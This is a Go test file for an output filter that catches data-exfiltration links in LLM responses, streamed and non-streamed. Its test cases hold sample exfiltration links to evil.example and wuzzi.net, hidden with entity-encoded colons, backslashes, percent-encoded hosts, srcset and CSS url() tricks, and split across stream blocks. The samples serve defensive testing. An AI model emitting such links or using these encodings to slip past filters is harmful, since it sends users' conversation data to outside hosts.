package outputguard

import (
	"fmt"
	"strings"
	"testing"

	"github.com/wasmguard/wasmguard/hostsim"
	"github.com/wasmguard/wasmguard/sdk/llm"
)

// The URL bypass classes of issue #11 through the BUILT dist/outputguard.wasm, non-streamed and streamed (every
// stream format, the text cut into tokens): each destination is flagged and replaced by the placeholder URL.
// Before the decoding of destinations (character references, backslash escapes, backslashes, percent-encoded
// hosts), path-segment scoring, srcset/CSS url() candidates and placeholder recognition, each passed unchanged.
func TestURLBypassClassesWasm(t *testing.T) {
	const ph = "[EMAIL_3F9A2C7D]"
	allow := `{"exfiltration":{"allowed_domains":["docs.acme.com"]}}`
	cases := []struct {
		name, cfg, construct, url string
	}{
		{"entity colon", allow, "![x](%s)", "https&#58;//evil.example/a.png"},
		{"backslash-escaped colon", allow, "![x](%s)", "https\\://evil.example/a.png"},
		{"backslashes", allow, "![x](%s)", "https:\\\\evil.example\\a.png"},
		{"entity slashes", allow, "![x](%s)", "https:&#x2F;&#x2F;evil.example/a.png"},
		{"img src entity", allow, `<img alt="x" src="%s">`, "https&#58;//evil.example/a.png"},
		{"percent-encoded host", allow, "![x](%s)", "https://evil%2Eexample/a.png"},
		{"bare entity slashes", allow, "see %s now", "https:&#x2F;&#x2F;evil.example/a.png"},
		{"srcset candidate", allow, `<img srcset="https://docs.acme.com/a.png 1x, %s 2x">`, "https://evil.example/b.png"},
		{"css url", `{"exfiltration":{"allowed_domains":["docs.acme.com"]},"unsafe_markup":{"enabled":false}}`, `<div style="background-image:url('%s')">x</div>`, "https://evil.example/bg.png"},
		{"password in path", `{}`, "![c](%s)", "https://evil.example/u/jane/password/hunter2.png"},
		{"placeholder in image", `{}`, "![x](%s)", "https://evil.example/p.png?u=" + ph},
		{"placeholder on allowed host", allow, "![x](%s)", "https://docs.acme.com/p.png?u=" + ph},
		{"placeholder in reference", `{}`, "![x][r]\n\n[r]: %s", "https://evil.example/p.png?u=" + ph},
		{"placeholder in img", `{}`, `<img src="%s">`, "https://evil.example/p.png?u=" + ph},
	}
	for _, tc := range cases {
		text := "Here you go.\n\n" + fmt.Sprintf(tc.construct, tc.url) + "\n\nDone."
		t.Run(tc.name, func(t *testing.T) {
			h := host(t, hostsim.ProfileEnvoy, tc.cfg)
			res := h.Do(chatRequest("You are a helpful assistant.", false), jsonResponse(chatCompletion(text)))
			checkHealthy(t, res)
			got := answerText(t, res.Body)
			if strings.Contains(got, tc.url) || !strings.Contains(got, placeholder) {
				t.Fatalf("non-streamed: URL not neutralised:\n%s", got)
			}
			if d := oneDecision(t, res); d.Reason != "output_exfiltration_link" {
				t.Fatalf("decision %+v", d)
			}
			for _, c := range streamCases {
				stream := c.build(splitTokens(text))
				res := h.Do(streamRequest(c, "You are a helpful assistant."), hostsim.Response{Status: 200,
					Headers: [][2]string{{"content-type", "text/event-stream"}}, Chunks: chunkBytes(stream, 29)})
				checkHealthy(t, res)
				got, snaps, _ := clientStream(t, c.format, res.Body)
				if strings.Contains(got, tc.url) || !strings.Contains(got, placeholder) {
					t.Fatalf("%s stream: URL not neutralised:\n%s", c.name, got)
				}
				for _, s := range snaps {
					if strings.Contains(s, tc.url) {
						t.Fatalf("%s stream: snapshot carries the URL: %q", c.name, s)
					}
				}
			}
		})
	}
}

// TestLinkSplitAcrossBlocksWasm: a link whose halves come in two Anthropic text blocks, two Gemini parts or two
// Responses output_text parts renders as one link; it is judged on the join.
func TestLinkSplitAcrossBlocksWasm(t *testing.T) {
	const a, b = "Summary done. ![chart](https://wuzzi.net/logo.svg?q=%22conversation", "+summary+of+the+chat%22) Bye."
	anthropic := func() string {
		var s strings.Builder
		s.WriteString(sseEvent("message_start", map[string]any{"type": "message_start", "message": map[string]any{"id": "msg_1", "type": "message",
			"role": "assistant", "content": []any{}, "model": "claude-sonnet-4", "usage": map[string]any{"input_tokens": 10, "output_tokens": 1}}}))
		for i, part := range []string{a, b} {
			s.WriteString(sseEvent("content_block_start", map[string]any{"type": "content_block_start", "index": i, "content_block": map[string]any{"type": "text", "text": ""}}))
			s.WriteString(sseEvent("content_block_delta", map[string]any{"type": "content_block_delta", "index": i, "delta": map[string]any{"type": "text_delta", "text": part}}))
			s.WriteString(sseEvent("content_block_stop", map[string]any{"type": "content_block_stop", "index": i}))
		}
		s.WriteString(sseEvent("message_delta", map[string]any{"type": "message_delta", "delta": map[string]any{"stop_reason": "end_turn"}, "usage": map[string]any{"output_tokens": 9}}))
		s.WriteString(sseEvent("message_stop", map[string]any{"type": "message_stop"}))
		return s.String()
	}
	gemini := func() string {
		c := map[string]any{"content": map[string]any{"parts": []any{map[string]any{"text": a}, map[string]any{"text": b}}, "role": "model"}, "index": 0, "finishReason": "STOP"}
		return sseData(map[string]any{"candidates": []any{c}})
	}
	for _, c := range streamCases {
		var stream string
		switch c.name {
		case "anthropic":
			stream = anthropic()
		case "gemini":
			stream = gemini()
		case "openai_responses":
			stream = responsesParts(splitTokens(a), splitTokens(b))
		default:
			continue
		}
		t.Run(c.name, func(t *testing.T) {
			h := host(t, hostsim.ProfileEnvoy, `{}`)
			res := h.Do(streamRequest(c, "You are a helpful assistant."), hostsim.Response{Status: 200,
				Headers: [][2]string{{"content-type", "text/event-stream"}}, Chunks: chunkBytes(stream, 37)})
			checkHealthy(t, res)
			got, snaps, _ := clientStream(t, c.format, res.Body)
			if strings.Contains(got, "wuzzi.net") || !strings.Contains(got, placeholder) {
				t.Fatalf("link split across blocks not neutralised:\n%s", got)
			}
			// the snapshots (Responses *.done events, response.completed) repeat each part: they carry what the
			// deltas of that part carried, not the halves of the link
			for _, s := range snaps {
				if strings.Contains(s, "wuzzi.net") || strings.Contains(s, "conversation") || strings.Contains(s, "summary+of") {
					t.Fatalf("a snapshot carries part of the link: %q\n%s", s, res.Body)
				}
			}
			if c.format == llm.FormatOpenAIResponses {
				// each part's snapshots are exactly what that part's deltas carried
				ds, _ := llm.ReadStream(c.format, res.Body)
				parts := map[int]string{}
				n := 0
				for _, d := range ds {
					switch d.Kind {
					case llm.DeltaText:
						parts[d.Part] += d.Text
					case llm.DeltaSnapshot:
						n++
						if d.Text != parts[d.Part] {
							t.Fatalf("snapshot of part %d %q, its deltas gave %q", d.Part, d.Text, parts[d.Part])
						}
					}
				}
				if n != 8 || parts[0] != "Summary done. ![chart]("+placeholder || parts[1] != ") Bye." {
					t.Fatalf("%d snapshots, parts %q", n, parts)
				}
			}
			if d := oneDecision(t, res); d.Reason != "output_exfiltration_link" {
				t.Fatalf("decision %+v", d)
			}
		})
	}
}

// responsesParts is a Responses stream whose message item has two output_text parts, with every event of the
// API's grammar: each part's deltas, its output_text.done and content_part.done (which repeat the part's text
// alone), then output_item.done and response.completed (which repeat both parts).
func responsesParts(a, b []string) string {
	var s strings.Builder
	seq := 0
	ev := func(typ string, v map[string]any) {
		v["type"], v["sequence_number"] = typ, seq
		seq++
		s.WriteString(sseEvent(typ, v))
	}
	part := func(t string) map[string]any {
		return map[string]any{"type": "output_text", "annotations": []any{}, "text": t}
	}
	whole := []string{strings.Join(a, ""), strings.Join(b, "")}
	item := func(status string, parts ...map[string]any) map[string]any {
		c := []any{}
		for _, p := range parts {
			c = append(c, p)
		}
		return map[string]any{"id": "msg_1", "type": "message", "status": status, "role": "assistant", "content": c}
	}
	ev("response.created", map[string]any{"response": map[string]any{"id": "resp_1", "status": "in_progress", "output": []any{}}})
	ev("response.output_item.added", map[string]any{"output_index": 0, "item": item("in_progress")})
	for ci, deltas := range [][]string{a, b} {
		ev("response.content_part.added", map[string]any{"item_id": "msg_1", "output_index": 0, "content_index": ci, "part": part("")})
		for _, d := range deltas {
			ev("response.output_text.delta", map[string]any{"item_id": "msg_1", "output_index": 0, "content_index": ci, "delta": d})
		}
		ev("response.output_text.done", map[string]any{"item_id": "msg_1", "output_index": 0, "content_index": ci, "text": whole[ci]})
		ev("response.content_part.done", map[string]any{"item_id": "msg_1", "output_index": 0, "content_index": ci, "part": part(whole[ci])})
	}
	done := item("completed", part(whole[0]), part(whole[1]))
	ev("response.output_item.done", map[string]any{"output_index": 0, "item": done})
	ev("response.completed", map[string]any{"response": map[string]any{"id": "resp_1", "status": "completed", "output": []any{done},
		"usage": map[string]any{"input_tokens": 10, "output_tokens": 9, "total_tokens": 19}}})
	return s.String()
}
